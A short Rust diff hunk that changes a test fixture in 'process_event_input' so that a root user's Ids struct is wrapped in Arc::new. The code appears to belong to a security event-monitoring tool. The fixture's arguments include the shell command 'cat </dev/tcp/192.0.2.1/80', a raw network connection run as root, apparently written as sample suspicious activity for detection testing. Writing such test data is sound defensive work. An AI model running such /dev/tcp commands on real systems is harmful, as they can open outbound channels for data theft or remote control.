@@ -257,11 +257,11 @@ fn process_event_input() {
             "-c".into(),
             "cat </dev/tcp/192.0.2.1/80".into(),
         ],
-        ids: Ids {
+        ids: Arc::new(Ids {
             user_id: "0".into(),
             user_name: Some("root".into()),
             ..Default::default()
-        },
+        }),
         ..Default::default()
     };
     p.derive_names();
